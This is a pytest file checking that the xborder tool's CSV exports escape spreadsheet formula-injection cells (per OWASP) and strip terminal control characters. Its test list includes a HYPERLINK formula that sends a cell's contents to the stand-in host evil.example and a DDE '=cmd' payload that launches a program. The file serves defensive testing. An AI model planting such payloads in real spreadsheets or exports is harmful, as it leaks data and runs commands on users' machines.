"""CSV that xborder writes for spreadsheets: formula cells escaped, numbers kept (issue #10).

The rule (OWASP "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection): a
text cell starting with =, +, -, @, tab or carriage return gets a leading single quote.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xborder._csv import FORMULA_PREFIXES, spreadsheet_cell, terminal_safe, to_csv
from xborder.cli import main
from xborder.compliance._cli import CSV_COLUMNS as CHECK_COLUMNS
from xborder.jobs._cli import add_parsers, run
from xborder.jobs._demo import demo_environ, demo_world
from xborder.jobs._report import CSV_COLUMNS as SYNC_COLUMNS
from xborder.jobs._report import ItemNote, SyncReport
from xborder.jobs._shard import Shard
from xborder.marketplaces import OfferKey

CORPUS = Path(__file__).parent / "corpus"
BIDI = "\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
START = datetime(2026, 10, 1, 9, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "-5% sale",
    "+49 30 1234",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


def test_each_prefix_is_escaped_and_round_trips() -> None:
    text = to_csv(
        [("title", "plain", "count", "price"), *((h, "Mug", 3, Decimal("4.50")) for h in HOSTILE)]
    )
    header, *rows = parse(text)
    assert header == ["title", "plain", "count", "price"]
    assert [row[0] for row in rows] == ["'" + h for h in HOSTILE]
    assert_inert(rows)
    # Numbers xborder computes stay numbers; plain text is untouched.
    assert {tuple(row[1:]) for row in rows} == {("Mug", "3", "4.50")}
    # Every cell is quoted (OWASP also asks for that), and lines end in CRLF.
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(""https://evil.example')
    assert text.endswith('"\r\n')


def test_cell_rules() -> None:
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(Decimal("-1.50")) == Decimal("-1.50")
    # A negative amount given as *text* is escaped like any other text: only typed numbers
    # are trusted, and xborder writes no negative numbers today.
    assert spreadsheet_cell("-1.50") == "'-1.50"
    assert spreadsheet_cell(True) == "True"
    assert spreadsheet_cell("mug = cup") == "mug = cup"
    assert spreadsheet_cell("'=already quoted") == "'=already quoted"


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_any_text_reads_back_as_text(cells: list[str]) -> None:
    (row,) = parse(to_csv([cells]))
    assert_inert([row])
    unescaped = [
        c[1:] if o.startswith(FORMULA_PREFIXES) else c for c, o in zip(row, cells, strict=True)
    ]
    assert unescaped == cells


@given(st.text(max_size=30))
def test_terminal_safe_leaves_no_control_character(text: str) -> None:
    safe = terminal_safe(text)
    assert not [ch for ch in safe if unicodedata.category(ch) in ("Cc", "Cs")]
    assert not set(safe) & set(BIDI)
    assert safe == text or "\\" in safe


def test_terminal_safe_shows_escapes() -> None:
    assert terminal_safe("\x1b[31mred\x1b[0m") == "\\x1b[31mred\\x1b[0m"
    assert terminal_safe("a\x9b2Jb\u202ec\udce9") == "a\\x9b2Jb\\u202ec\\udce9"
    assert terminal_safe("Tasse — 日本") == "Tasse — 日本"


# -- xborder check --csv ----------------------------------------------------------------------


def test_check_csv_escapes_and_matches_json(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The catalog's own name starts with "=": it is in every skipped row's reason.
    monkeypatch.chdir(tmp_path)
    shutil.copy(CORPUS / "bad_rows.csv", tmp_path / "=HYPERLINK(1).csv")
    target = tmp_path / "matrix.csv"
    args = ["check", "=HYPERLINK(1).csv", "--to", "DE,GB", "--on", "2026-10-01"]
    table = io.StringIO()
    code = main([*args, "--csv", str(target)], out=table)
    assert "top reason" in table.getvalue() or "can be published" in table.getvalue()
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for spreadsheet programs
    header, *rows = parse(raw.decode("utf-8-sig"))
    assert tuple(header) == CHECK_COLUMNS
    assert_inert(rows)
    skipped = [row for row in rows if row[2] == "skipped"]
    cells = [row for row in rows if row[2] != "skipped"]
    bad_rows = json.loads((CORPUS / "bad_rows.expected.json").read_text(encoding="utf-8"))["bad"]
    assert len(skipped) == len(bad_rows)  # every bad row of the corpus, none of the good
    assert all(row[6].startswith("'=HYPERLINK(1).csv, row ") for row in skipped)
    assert "'=cmd|' /C calc'!A0" in {row[0] for row in skipped}  # a bad row's SKU, as text
    as_json = io.StringIO()
    assert main([*args, "--json"], out=as_json) == code
    data = json.loads(as_json.getvalue())
    expected = [
        (
            item["sku"],
            market,
            cell["status"],
            str(sum(f["severity"] == "error" for f in cell["findings"])),
        )
        for item in data["listings"]
        for market, cell in item["markets"].items()
    ]
    assert [(r[0], r[1], r[2], r[3]) for r in cells] == expected
    assert {r[0] for r in cells} >= {"GOOD-FORMULA", "GOOD-HYPERLINK", "GOOD-LAST"}


def test_check_csv_on_stdout_replaces_the_table() -> None:
    out = io.StringIO()
    main(["check", str(CORPUS / "bom.csv"), "--to", "DE", "--csv", "-"], out=out)
    header, *rows = parse(out.getvalue())
    assert tuple(header) == CHECK_COLUMNS and [r[0] for r in rows] == ["B-1", "B-2"]
    assert "can be published" not in out.getvalue()


def test_check_csv_unwritable_is_an_input_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main(["check", str(CORPUS / "bom.csv"), "--csv", str(tmp_path / "no" / "x.csv")])
    assert code == 2 and "--csv: cannot write" in capsys.readouterr().err


# -- SyncReport.to_csv and xborder sync/plan --csv --------------------------------------------


def report_with(reasons: list[str], errors: list[str]) -> SyncReport:
    report = SyncReport("sync", False, Shard(0, 1), START, catalog_errors=errors)
    target = report.target("ebay")
    for n, reason in enumerate(reasons):
        target.note(ItemNote(OfferKey("ebay", "DE", f"SKU-{n}"), "create", "failed", (reason,)))
    return report


def test_sync_report_csv_escapes_reasons() -> None:
    report = report_with([*HOSTILE, "\x1b[31mred alert"], ["-row 3: bad price"])
    header, *rows = parse(report.to_csv())
    assert tuple(header) == SYNC_COLUMNS
    assert_inert(rows)
    assert [row[5] for row in rows[: len(HOSTILE)]] == ["'" + h for h in HOSTILE]
    assert rows[-1] == ["", "", "", "read", "skipped", "'-row 3: bad price"]
    # The people's summary shows the same reasons without raw control characters.
    summary = report.summary()
    assert "\x1b" not in summary and "\r" not in summary and "\\x1b[31mred alert" in summary


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Any]:
    for name, value in demo_environ().items():
        monkeypatch.setenv(name, value)
    root = Path(__file__).resolve().parents[2]
    for name in ("xborder.toml", "catalog.jsonl", "seller.json"):
        shutil.copy(root / "examples" / name, tmp_path / name)
    monkeypatch.chdir(tmp_path)
    world = demo_world(start=START)
    try:
        yield world
    finally:
        world.close()


def call(world: Any, *argv: str) -> tuple[int, str]:
    import argparse

    parser = argparse.ArgumentParser(prog="xborder")
    add_parsers(parser.add_subparsers(dest="command", required=True))
    out = io.StringIO()
    code = run(parser.parse_args(argv), out, err=io.StringIO(), clock=world.clock, http=world.http)
    return code, out.getvalue()


def test_sync_csv_lists_failed_items(env: Any, tmp_path: Path) -> None:
    env.fakes["ebay"].inject("partial_batch", times=None, every=2)
    code, summary = call(env, "sync", "--csv", "items.csv")
    assert code == 1 and "failed" in summary
    header, *rows = parse((tmp_path / "items.csv").read_text(encoding="utf-8-sig"))
    assert tuple(header) == SYNC_COLUMNS
    assert_inert(rows)
    failed = [row for row in rows if row[4] == "failed"]
    assert failed and all(row[0] == "ebay" and row[5] for row in failed)
    code, text = call(env, "plan", "--csv", "-")
    assert code == 0 and parse(text)[0] == list(SYNC_COLUMNS)
